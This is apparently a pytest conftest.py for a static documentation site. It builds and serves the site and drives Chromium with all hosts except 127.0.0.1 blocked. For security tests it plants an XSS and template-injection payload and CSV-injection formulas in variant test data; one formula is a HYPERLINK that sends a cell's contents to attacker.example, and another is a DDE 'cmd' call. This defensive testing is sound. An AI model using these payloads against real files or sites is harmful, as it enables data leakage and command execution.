"""Shared fixtures: the validated data, a built site served on 127.0.0.1, and
Debian's Chromium driven by Playwright with every other address blocked."""
from __future__ import annotations

import csv
import fcntl
import functools
import json
import os
import re
import shutil
import subprocess
import sys
import threading
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import urlparse

import pytest
import yaml

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))
SEEDS = Path(os.environ.get("ATLAS_SEEDS") or ROOT.parent / "shared" / "seeds")
SOURCES = yaml.safe_load((ROOT / "data" / "sources.yaml").read_text(encoding="utf-8"))
DOC_IDS = [s["id"] for s in SOURCES]
"""The documents of data/sources.yaml, in its order: what per-document tests parametrise over."""
CHROMIUM = "/usr/bin/chromium"
BLOCK_OTHER_HOSTS = "--host-resolver-rules=MAP * ~NOTFOUND , EXCLUDE 127.0.0.1"
"""Chromium resolves no host name but 127.0.0.1: a request for another host fails before it leaves the machine
(tools/benchmark.py launches it so too). ``Blocker`` records any such attempt, and the tests assert there was none."""
CHROMIUM_ARGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
                 "--disable-sync", "--no-first-run", "--disable-dev-shm-usage", BLOCK_OTHER_HOSTS]
BOOT_LIMIT_MS = 90_000
"""How long a test waits for anything that waits for Python in the browser: a calculator's state
(ready, failed, restarted), its results and messages, and the charts of calculator pages (Vega waits
for Python's first answer). The page gives up booting after its own limit (60 s from navigation,
data-timeout-ms on #atlas-calculator) and stops a run after 20 s: by 90 s it has answered or said why
not, however loaded the machine."""
READY = '#atlas-calculator[data-state="ready"]'
FAILED = '#atlas-calculator[data-state="failed"]'
CALC_READY = f"{READY}, {FAILED}"
"""The calculator has booted Python, or given up: wait for this, then assert which."""
CHART_DONE = '.atlas-chart[data-rendered="true"] svg'
CHART_MS = 20_000
"""The wait for a chart on a page without a calculator: nothing holds Vega back there."""


def pytest_report_header(config):
    """The browser the browser tests ran in, beside Python's and pytest's versions in the header."""
    try:
        version = subprocess.run([CHROMIUM, "--version"], capture_output=True, text=True, timeout=60).stdout.strip()
    except OSError as e:
        version = f"not available ({e.strerror})"
    return f"chromium: {version or 'no version printed'} ({CHROMIUM})"


def seed_path(doc: str) -> Path:
    """The seed text of ``doc``: the ``seed_file`` of its data/sources.yaml entry, in SEEDS
    ($ATLAS_SEEDS, default ../shared/seeds beside the repository). Fails the test when it is missing."""
    name = next(s["seed_file"] for s in SOURCES if s["id"] == doc)
    p = SEEDS / name
    if not p.is_file():
        pytest.fail(f"seed of {doc} ({name}) is missing: {p}; the tests need ../shared/seeds beside the repository "
                    f"or ATLAS_SEEDS set to the seeds folder")
    return p


@pytest.fixture(scope="session")
def atlas():
    from atlas.datastore import load
    return load()


@pytest.fixture(scope="session")
def bundle(atlas):
    from atlas.bundle import build
    return build(atlas)


@pytest.fixture(scope="module")
def downloads_built_once(atlas):
    """Every download's bytes (``atlas.pages.shown.build_downloads``), built once per test module."""
    from atlas.pages.products import Renderer
    from atlas.pages.shown import build_downloads
    return build_downloads(Renderer(atlas))


@pytest.fixture
def download_build(request, atlas):
    """Every download's bytes (``atlas.pages.shown.build_downloads``: ``.files``, ``.table_bytes``, ``.tables``,
    ``.extra``, ``.rows``), built once per test module; but rebuilt from nothing for every test during mutmut's
    statistics run (MUTANT_UNDER_TEST=stats, tools/mutation_sample.py). mutmut credits a function to the tests during
    which it was called and later runs only those against the function's mutants: a build shared by the module would
    be credited to the first test alone, so a mutant of the workbook or the data package would only meet that test
    and survive tests that check it. A mutant's own run starts with an empty atlas.downloads._CACHE in a fresh
    process, so there its tests share one build again."""
    if os.environ.get("MUTANT_UNDER_TEST") != "stats":
        return request.getfixturevalue("downloads_built_once")
    from atlas import downloads
    from atlas.pages.products import Renderer
    from atlas.pages.shown import build_downloads
    downloads._CACHE.clear()
    return build_downloads(Renderer(atlas))


def build_site(out: Path, data: Path | None = None, env: dict | None = None) -> subprocess.CompletedProcess:
    """Build the site into ``out`` as `make build` does (``python -m atlas build``), from ``data`` (default data/),
    with its own docs tree beside ``out`` (so builds of different data never share one)."""
    env = dict(env or os.environ, NO_MKDOCS_2_WARNING="1")
    if data:
        env["ATLAS_DATA"] = str(data)
    docs = out.with_name(f".{out.name}.docs")
    return subprocess.run([sys.executable, "-m", "atlas", "build", "-d", str(out), "--docs-dir", str(docs)], cwd=ROOT,
                          env=env, capture_output=True, text=True)


def _shared_build(tmp_path_factory, worker_id, name: str, data=None, env=None) -> Path:
    """A site built once per run (``build_site``) and shared by every test process: under pytest-xdist (pytest.ini)
    the first process to need it builds it into the run's shared temporary folder (``<name>/site``), holding a lock,
    and the others wait for it and use the same folder (tests only read it). ``data(folder) -> Path``: writes the data
    folder to build from into ``folder`` (default: data/ itself), the folder the site is built into as ``site``: a
    test finds that data beside the site (``site.parent / "data"``). ``env``: the build's environment, or
    ``env(folder) -> dict`` when it names something ``data`` wrote there. A failed build fails every process's tests
    with its output."""
    if worker_id == "master":  # one process (-n 0)
        base = tmp_path_factory.mktemp(name)
        out = base / "site"
        r = build_site(out, data(base) if data else None, env(base) if callable(env) else env)
        assert r.returncode == 0, r.stdout + r.stderr
        return out
    shared = tmp_path_factory.getbasetemp().parent / name  # pytest-of-<user>/pytest-<n>, the workers' basetemps under it
    shared.mkdir(exist_ok=True)
    out, failed = shared / "site", shared / "site.failed"
    with open(shared / "site.lock", "w") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)  # released when the file closes, also when this process dies
        if failed.exists():
            pytest.fail(failed.read_text(encoding="utf-8"), pytrace=False)
        if not (shared / "site.done").exists():
            r = build_site(out, data(shared) if data else None, env(shared) if callable(env) else env)
            if r.returncode != 0:
                failed.write_text(f"the {name} build failed:\n{r.stdout}{r.stderr}", encoding="utf-8")
                pytest.fail(failed.read_text(encoding="utf-8"), pytrace=False)
            (shared / "site.done").touch()
    return out


@pytest.fixture(scope="session")
def built_site(tmp_path_factory, worker_id) -> Path:
    """The site built from data/ (``build_site``), once per run and shared by the test processes (``_shared_build``)."""
    return _shared_build(tmp_path_factory, worker_id, "site")


PUBLIC_URL = "https://atlas.example.org/atlas/"
"""The public address of the variant build (``variant_site``): a site served under a sub-path (test_hosting)."""
SIXTH_GUIDE = ROOT / "tests" / "fixtures" / "sixth_guide"
"""A made-up sixth guide, its data/<doc>/ folder and its sources.yaml entry (test_sixth_guide)."""
PAYLOAD = "<img src=x onerror=window.__pwned=1></script>{{ 7*7 }}[go](javascript:window.__pwned=2)"
"""Markup, a script end tag, Jinja and a javascript: link, planted in the variant build's BSF data (test_security)."""
SERVICE = "Egress Gateway " + PAYLOAD
"""BSF's Egress Gateway as the variant build names it everywhere in data/bsf (bsf-3-3 has it in Table 3-25)."""
HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'
DDE = "=cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
"""Spreadsheet formulas (OWASP "CSV Injection"), the notes of the first three rows of the variant build's
data/bsf/resources.csv (test_csv_injection)."""


def _variant_seeds(folder: Path) -> Path:
    """The seeds the variant data quote, in ``folder``/seeds (the build checks every citation against its seed): those
    of SEEDS, BSF's with "Egress Gateway" renamed SERVICE as in its data, and the sixth guide's."""
    seeds = folder / "seeds"
    seeds.mkdir(exist_ok=True)
    bsf = next(s["seed_file"] for s in SOURCES if s["id"] == "bsf")
    for s in SOURCES:
        text = (SEEDS / s["seed_file"]).read_text(encoding="utf-8")
        (seeds / s["seed_file"]).write_text(text.replace("Egress Gateway", SERVICE) if s["seed_file"] == bsf else text,
                                            encoding="utf-8")
    shutil.copy(SIXTH_GUIDE / "999_0123456789abcdef.txt", seeds)
    return seeds


def _variant_data(folder: Path) -> Path:
    """Data/ plus the sixth guide (SIXTH_GUIDE), with PAYLOAD planted in BSF's data: "Egress Gateway" renamed
    SERVICE in every data/bsf file, and bsf-3-3's title, short title and notes ending in it; and the notes of the
    first three rows of data/bsf/resources.csv the formulas HYPERLINK, DDE and AT_SUM. The seeds they quote are
    written beside it (``_variant_seeds``)."""
    _variant_seeds(folder)
    d = copy_data(folder)
    shutil.copytree(SIXTH_GUIDE / "xyz", d / "xyz")
    with (d / "sources.yaml").open("a", encoding="utf-8") as f:
        f.write((SIXTH_GUIDE / "source.yaml").read_text(encoding="utf-8"))
    for p in (d / "bsf").glob("*.csv"):
        p.write_text(p.read_text(encoding="utf-8").replace("Egress Gateway", SERVICE), encoding="utf-8")

    def walk(o):
        if isinstance(o, str):
            return o.replace("Egress Gateway", SERVICE)
        if isinstance(o, list):
            return [walk(x) for x in o]
        if isinstance(o, dict):
            return {k: walk(v) for k, v in o.items()}
        return o
    for name in ("services", "errata"):
        p = d / "bsf" / f"{name}.yaml"
        p.write_text(yaml.safe_dump(walk(yaml.safe_load(p.read_text())), allow_unicode=True, sort_keys=False))
    p = d / "bsf" / "scenarios.yaml"
    items = yaml.safe_load(p.read_text())
    for s in items:
        if s["id"] == "bsf-3-3":
            s["title"] += " " + PAYLOAD
            s["short_title"] += " " + PAYLOAD
            s["notes"] = [PAYLOAD]
    p.write_text(yaml.safe_dump(items, allow_unicode=True, sort_keys=False))
    for row, formula in enumerate((HYPERLINK, DDE, AT_SUM)):
        rewrite_csv_cell(d / "bsf" / "resources.csv", row, "note", formula)
    return d


@pytest.fixture(scope="session")
def variant_site(tmp_path_factory, worker_id) -> Path:
    """One build of what the default build is not, for four test files, once per run (``_shared_build``): the data
    of ``_variant_data`` (a sixth guide for test_sixth_guide, markup in BSF's data for test_security, formulas in BSF's
    notes for test_csv_injection), built for PUBLIC_URL (ATLAS_SITE_URL; test_hosting). They do not meet: the guide
    is a folder and a sources.yaml entry of its own, the markup and the formulas are in data/bsf only (names and
    titles; notes), and the address changes only the canonical links, the sitemap and the 404 page. One build
    instead of four, each of which took a full build's time or most of it (10 to 30 s). The sixth guide's module
    (its own metrics: SIXTH_GUIDE/guides/xyz.py) is found on ATLAS_GUIDES, as a guide kept outside the repository;
    the seeds the variant data quote are found on ATLAS_SEEDS (``_variant_seeds``)."""
    return _shared_build(tmp_path_factory, worker_id, "variant", _variant_data,
                         lambda folder: dict(os.environ, ATLAS_SITE_URL=PUBLIC_URL, ATLAS_SEEDS=str(folder / "seeds"),
                                             ATLAS_GUIDES=str(SIXTH_GUIDE / "guides")))


HEAVY_FIRST = ["test_boot_failures.py", "test_sixth_guide.py", "test_security.py", "test_site_experience.py",
               "test_table_views.py", "test_products_pages.py", "test_build_swap.py", "test_bad_data.py",
               "test_calculator_first_use_browser.py", "test_snapshot.py", "test_links.py", "test_hosting.py"]
"""The test files that take longest (each 35 to 200 s of a full run on 2 cores, from --durations), longest first, but
for test_sixth_guide second: the first test process builds the usual site (built_site) for test_boot_failures while
the second builds the variant one (variant_site) for test_sixth_guide, instead of waiting for the first. pytest-xdist
hands files to the test processes in collection order (--dist loadfile with --no-loadscope-reorder, pytest.ini; its
default order is by number of tests): these go first, so that no process is left running a long file alone at the
end. Only the order changes, never which tests run."""


def pytest_collection_modifyitems(config, items):
    """Runs the files of HEAVY_FIRST before the others (in its order), each file's tests in their own order."""
    rank = {name: i for i, name in enumerate(HEAVY_FIRST)}
    items.sort(key=lambda item: rank.get(item.path.name, len(rank)))  # sort is stable: the rest keep their order


class _Handler(SimpleHTTPRequestHandler):
    extensions_map = {**SimpleHTTPRequestHandler.extensions_map, ".wasm": "application/wasm", ".mjs": "text/javascript",
                      ".js": "text/javascript", ".json": "application/json"}

    def log_message(self, *args):
        pass


def wasm_holder() -> type[_Handler]:
    """A handler class (its own each call) that holds pyodide.asm.wasm until the test sets the
    class's ``release`` Event, 60 s at most: Python stays "loading" as long as a test needs."""
    class HeldWasm(_Handler):
        release = threading.Event()

        def do_GET(self):
            if self.path.split("?")[0].endswith("/pyodide.asm.wasm"):
                self.release.wait(60)
            super().do_GET()
    return HeldWasm


def serve_manifest_and_pages(handler: SimpleHTTPRequestHandler, manifest: dict) -> bool:
    """For a handler serving a built site as another build would be: answers the request with ``manifest`` as
    assets/py/manifest.json, or with the page asked for naming that manifest by its content hash (``data-manifest``,
    which the calculator worker checks the manifest against), and returns True; False for any other file."""
    from atlas.assets import content_hash
    path = handler.path.split("?")[0]
    body = json.dumps(manifest).encode("utf-8")
    if path.endswith("/assets/py/manifest.json"):
        _send(handler, body, "application/json")
        return True
    page = Path(handler.translate_path(handler.path))
    page = page / "index.html" if path.endswith("/") else page
    if path.endswith(("/", ".html")) and page.is_file():
        html = page.read_text(encoding="utf-8")
        if 'data-manifest="' in html:
            html = re.sub(r'data-manifest="[0-9a-f]+"', f'data-manifest="{content_hash(body)}"', html)
            _send(handler, html.encode("utf-8"), "text/html; charset=utf-8")
            return True
    return False


def _send(handler: SimpleHTTPRequestHandler, body: bytes, ctype: str) -> None:
    handler.send_response(200)
    handler.send_header("Content-Type", ctype)
    handler.send_header("Content-Length", str(len(body)))
    handler.end_headers()
    handler.wfile.write(body)


class PackEditor(_Handler):
    """Serves a built site as a build of edited code would be: calculator ``calc``'s code pack rewritten by
    ``edit(files) -> files`` (path -> bytes) and its data bundle (.marshal) by ``edit_bundle(bytes) -> bytes``, the
    manifest indexing the new pack and giving the new size and SHA-256 of both (``digests``: the worker checks every
    file against them), and every page naming that manifest by its content hash (``serve_manifest_and_pages``): how
    tests change the code or data a page gets. The pack and bundle keep the content-hashed names the manifest gives
    them (the worker checks the digests, not the names). The manifest names no memory snapshot: the build's holds the
    code as built, not as edited, so the page boots from the files (tests/test_snapshot.py)."""
    calc = "footprint"

    @staticmethod
    def edit(files: dict[str, bytes]) -> dict[str, bytes]:
        return files

    @staticmethod
    def edit_bundle(data: bytes) -> bytes:
        return data

    def _manifest(self) -> dict:
        return json.loads((Path(self.directory) / "assets" / "py" / "manifest.json").read_text(encoding="utf-8"))

    def _rewritten(self) -> tuple[dict, bytes, bytes]:
        """(the manifest, the pack, the .marshal bundle) as served."""
        from atlas import codepack
        from atlas.assets import file_digest
        manifest = self._manifest()
        entry = manifest["packs"][self.calc]
        files = self.edit(codepack.unpack(entry["files"], (Path(self.directory) / "assets" / "py" / entry["pack"]).read_bytes()))
        entry["files"], blob = codepack.pack(list(files.items()))
        marshal = manifest["bundles"][self.calc]["marshal"]
        bundle = self.edit_bundle((Path(self.directory) / "assets" / "data" / marshal).read_bytes())
        manifest["digests"][f"assets/py/{entry['pack']}"] = file_digest(blob)
        manifest["digests"][f"assets/data/{marshal}"] = file_digest(bundle)
        manifest.pop("snapshot", None)
        return manifest, blob, bundle

    def do_GET(self):
        path = self.path.split("?")[0]
        manifest = self._manifest()
        pack, marshal = manifest["packs"][self.calc]["pack"], manifest["bundles"][self.calc]["marshal"]
        if path.endswith((f"/assets/py/{pack}", f"/assets/data/{marshal}")):
            _, blob, bundle = self._rewritten()
            return _send(self, blob if path.endswith(".pack") else bundle, "application/octet-stream")
        if not serve_manifest_and_pages(self, self._rewritten()[0]):
            super().do_GET()


def site_manifest(site: Path) -> dict:
    """The code manifest of a built site (assets/py/manifest.json): per calculator, its code pack
    (``packs``) and data bundle (``bundles``), by their content-hashed file names."""
    return json.loads((site / "assets" / "py" / "manifest.json").read_text(encoding="utf-8"))


def chart_spec(site: Path, page: str, chart_id: str) -> dict:
    """The Vega-Lite spec of chart ``chart_id`` on ``page`` (e.g. "products/bsf/bsf-3-3") of a built site: from
    assets/charts/<key>.json when the build drew the chart (its element's ``data-spec`` names the key, and the page
    holds no spec: atlas/charts.py), else from the page's ``<script type="application/json">``. Fails the test when
    neither is there."""
    html = (site / page / "index.html").read_text(encoding="utf-8")
    m = re.search(r'<div class="atlas-chart[^"]*" data-chart-id="' + re.escape(chart_id) + r'"[^>]*?data-spec="([0-9a-f]{16})"', html)
    if m:
        assert f'id="{chart_id}">' not in html, f"{page}: chart {chart_id} drawn, yet its spec is still in the page"
        return json.loads((site / "assets" / "charts" / f"{m.group(1)}.json").read_text(encoding="utf-8"))
    m = re.search(r'<script type="application/json" id="' + re.escape(chart_id) + r'">(.*?)</script>', html, re.S)
    if not m:
        pytest.fail(f"{page}: no spec for chart {chart_id}")
    return json.loads(m.group(1))


def bundle_file(site: Path, calc: str, ext: str) -> str:
    """The file name of calculator ``calc``'s data bundle (``ext``: "marshal" or "json") in a built site,
    e.g. calculator-bundle.footprint.0123456789ab.marshal."""
    return site_manifest(site)["bundles"][calc][ext]


class _Server(ThreadingHTTPServer):
    def handle_error(self, request, client_address):
        # a browser that closes mid-download (a test ending) is not a server error
        if not isinstance(sys.exc_info()[1], (ConnectionResetError, BrokenPipeError)):
            super().handle_error(request, client_address)


def serve(directory: Path, handler=_Handler):
    httpd = _Server(("127.0.0.1", 0), functools.partial(handler, directory=str(directory)))
    t = threading.Thread(target=httpd.serve_forever, daemon=True)
    t.start()
    return httpd, f"http://127.0.0.1:{httpd.server_address[1]}"


@pytest.fixture(scope="session")
def site_url(built_site):
    httpd, url = serve(built_site)
    yield url
    httpd.shutdown()


@pytest.fixture(scope="session")
def browser():
    if not Path(CHROMIUM).exists():
        pytest.fail(f"{CHROMIUM} is missing: `make test` installs Debian's chromium")
    from playwright.sync_api import sync_playwright
    with sync_playwright() as p:
        b = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        _navigations_wait_the_boot_limit(b)
        yield b
        b.close()


def _navigations_wait_the_boot_limit(b) -> None:
    """Every context of browser ``b`` waits up to BOOT_LIMIT_MS for a navigation (page.goto, reload). A page's load
    event waits for its subresources, which on a busy 2-core machine (a full run beside other work) once took longer
    than Playwright's 30 s default; a navigation is a state to wait for, like the calculator's boot."""
    new_context = b.new_context

    def with_limit(*args, **kwargs):
        ctx = new_context(*args, **kwargs)
        ctx.set_default_navigation_timeout(BOOT_LIMIT_MS)
        return ctx
    b.new_context = with_limit


class Blocker:
    """Request listener (``offline``): records every request for anything but 127.0.0.1, data: and blob:, which
    Chromium cannot send (BLOCK_OTHER_HOSTS). It listens rather than routes: routing every request through Playwright
    turned the browser's HTTP cache off and cost a round trip per request (the strict-CSP crawl of 209 pages took
    41 s routed, 23 s listened, alone on 2 cores)."""

    def __init__(self):
        self.blocked: list[str] = []

    def __call__(self, request):
        url = request.url
        if not url.startswith(("data:", "blob:")) and urlparse(url).hostname != "127.0.0.1":
            self.blocked.append(url)


def offline(ctx) -> Blocker:
    """Records in a ``Blocker`` every request of browser context ``ctx`` (its pages and their workers) that was
    for another host than 127.0.0.1; returns it (``.blocked``: the URLs, in order)."""
    blocker = Blocker()
    ctx.on("request", blocker)
    return blocker


@pytest.fixture
def page(browser):
    """A fresh page (cold cache); asserts after the test that nothing left 127.0.0.1."""
    ctx = browser.new_context(viewport={"width": 1280, "height": 900}, service_workers="block")
    blocker = offline(ctx)
    pg = ctx.new_page()
    errors: list[str] = []
    pg.on("pageerror", lambda e: errors.append(str(e)))
    pg.blocker = blocker
    pg.js_errors = errors
    yield pg
    ctx.close()
    assert blocker.blocked == [], f"requests outside 127.0.0.1: {blocker.blocked}"


def wait_calc(page, selector: str, timeout: int = BOOT_LIMIT_MS, until: str | None = None) -> None:
    """Waits for ``selector`` (a state of #atlas-calculator) to be attached, or, with ``until``, for that JavaScript
    function to return true (``selector`` then names the state in the failure); if not within ``timeout`` ms, fails
    naming the calculator's attributes, status line and message as they were then (what the page was doing)."""
    from playwright.sync_api import TimeoutError as PlaywrightTimeout
    try:
        if until:
            page.wait_for_function(until, timeout=timeout)
        else:
            page.wait_for_selector(selector, state="attached", timeout=timeout)
    except PlaywrightTimeout:
        seen = page.evaluate("""() => { const c = document.getElementById('atlas-calculator');
            const text = (id) => (document.getElementById(id) || {}).innerText || '';
            return {attributes: c ? Object.fromEntries([...c.attributes].map(a => [a.name, a.value.slice(0, 120)])) : null,
                    status: text('atlas-calc-status'), message: text('atlas-calc-message')}; }""")
        pytest.fail(f"{selector} not reached within {timeout} ms; the calculator: {seen}", pytrace=False)


def status_points_at_the_message(page) -> str:
    """Asserts that the calculator's status line, where it points the reader to the message ("see the message below"
    or "above"), points where the message box is on the page (it said "above" of a message shown
    below it), and that the message is shown; returns the status text."""
    where = page.evaluate("""() => { const s = document.getElementById('atlas-calc-status').getBoundingClientRect();
        const m = document.getElementById('atlas-calc-message');
        const r = m.getBoundingClientRect();
        return {hidden: m.hidden, below: r.top >= s.bottom, above: r.bottom <= s.top}; }""")
    status = page.inner_text("#atlas-calc-status")
    said = re.findall(r"see the message (above|below)", status)
    assert said, f"the status does not point to the message: {status}"
    assert not where["hidden"], "the status points to a message that is hidden"
    for word in said:
        assert where[word], f"the status says the message is {word}, but it is not: {where}; {status}"
    return status


def result_cell(page, service, container="app", column="Replicas (target)") -> str:
    """Text of a calculator result-table cell, by service, container and column header."""
    headers = page.locator("#atlas-calc-result table.atlas-rows thead th").all_inner_texts()
    idx = headers.index(column) + 1
    return page.locator(f'#atlas-calc-result tr[data-service="{service}"][data-container="{container}"] '
                        f'td:nth-child({idx})').inner_text()


def result_row(res: dict, service: str, container: str = "app") -> dict:
    """The row of a calculator result (``res["rows"]``) for ``service`` and ``container``."""
    return next(r for r in res["rows"] if r["service"] == service and r["container"] == container)


def computed(page, seq: int = 1) -> None:
    """Waits for Python to boot (asserting it did not fail) and for result ``seq`` computed in the browser."""
    page.wait_for_selector(CALC_READY, state="attached", timeout=BOOT_LIMIT_MS)
    assert page.get_attribute("#atlas-calculator", "data-state") == "ready", page.inner_text("#atlas-calc-status")
    page.wait_for_selector(f'#atlas-calculator[data-result-seq="{seq}"]', state="attached", timeout=BOOT_LIMIT_MS)
    assert page.get_attribute("#atlas-calc-result", "data-prerendered") == "false"


def wait_for_chart(page, selector: str = CHART_DONE) -> None:
    """Waits for a chart drawn live by Vega. On a calculator page Vega waits for Python (its first result,
    or its failing to boot), so for as long as Python may take to boot. Elsewhere the build drew the charts
    (atlas/charts.py) and Vega draws one live when the reader first uses it: this points at the first
    drawn chart, as a reader would, then waits up to CHART_MS."""
    calculator = page.locator("#atlas-calculator").count() > 0
    if not calculator and page.locator(".atlas-chart[data-static]").count():
        page.locator(".atlas-chart[data-static]").first.hover()
    page.wait_for_selector(selector, timeout=BOOT_LIMIT_MS if calculator else CHART_MS)


def data_file(doc: str, name: str) -> Path:
    """Data/<doc>/<name>, the committed data a value test reads. Fails the test, naming the file, when it
    is missing: a value test never skips, nor reads anything else in its place."""
    p = ROOT / "data" / doc / name
    if not p.is_file():
        pytest.fail(f"data/{doc}/{name} is missing: `python -m curation {doc}` writes it", pytrace=False)
    return p


def one(rows, **match):
    """The one row of ``rows`` (a pandas DataFrame, or a list of dicts as csv.DictReader gives them)
    whose every ``column=value`` of ``match`` holds; asserts that there is exactly one."""
    if hasattr(rows, "iloc"):
        for k, v in match.items():
            rows = rows[rows[k] == v]
        assert len(rows) == 1, f"{match}: {len(rows)} rows"
        return rows.iloc[0]
    hits = [r for r in rows if all(r[k] == v for k, v in match.items())]
    assert len(hits) == 1, f"{match}: {len(hits)} rows"
    return hits[0]


class DocData:
    """Plain readers of one document's data/<doc>/ files for value tests (csv + yaml, no validation)."""

    def __init__(self, doc: str):
        self.doc = doc

    def rows(self, kind: str) -> list[dict]:
        with open(data_file(self.doc, f"{kind}.csv"), encoding="utf-8") as f:
            return list(csv.DictReader(f))

    def load(self, name: str):
        return yaml.safe_load(data_file(self.doc, f"{name}.yaml").read_text(encoding="utf-8"))

    def one(self, kind: str, **match) -> dict:
        return one(self.rows(kind), **match)


def copy_data(tmp_path: Path) -> Path:
    """A private copy of data/ that a test may break."""
    dst = tmp_path / "data"
    shutil.copytree(ROOT / "data", dst)
    return dst


def rewrite_csv_cell(path: Path, row_index: int, column: str, value: str) -> None:
    """Set one cell (data row ``row_index``, 0-based) of a CSV file, keeping its header and other rows."""
    rows = list(csv.DictReader(path.open()))
    rows[row_index][column] = value
    with path.open("w", newline="") as f:
        w = csv.DictWriter(f, fieldnames=list(rows[0].keys()), lineterminator="\n")
        w.writeheader()
        w.writerows(rows)


def csv_body(text: str) -> str:
    """A calculator CSV download without the comment lines of inputs at its head (``# key: value``, each
    one cell, quoted when it holds a comma: calculators.catalogue.input_lines): the header row and the rows."""
    lines = text.splitlines(keepends=True)
    n = 0
    while n < len(lines) and lines[n].lstrip('"').startswith("#"):
        n += 1
    return "".join(lines[n:])
